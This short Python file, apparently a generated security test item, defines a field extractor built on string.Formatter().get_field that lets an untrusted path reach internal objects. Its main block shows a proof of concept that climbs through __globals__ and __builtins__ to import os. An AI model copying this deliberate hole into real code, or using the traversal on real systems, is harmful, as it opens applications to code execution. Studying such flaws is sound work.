# family: hostile, blind round 59 (format strings: string.Formatter().get_field returns live objects)
"""Field extractor for templated records."""
import string


def extract_field(path: str, record):
    """Extract a dotted field from a record using format-field syntax."""
    obj, _ = string.Formatter().get_field(path, (record,), {})
    return obj


if __name__ == "__main__":
    b = extract_field("0.__globals__[__builtins__]", extract_field)
    imp = b.__import__ if hasattr(b, "__import__") else b["__import__"]
    print("proof:", imp("os").getcwd())
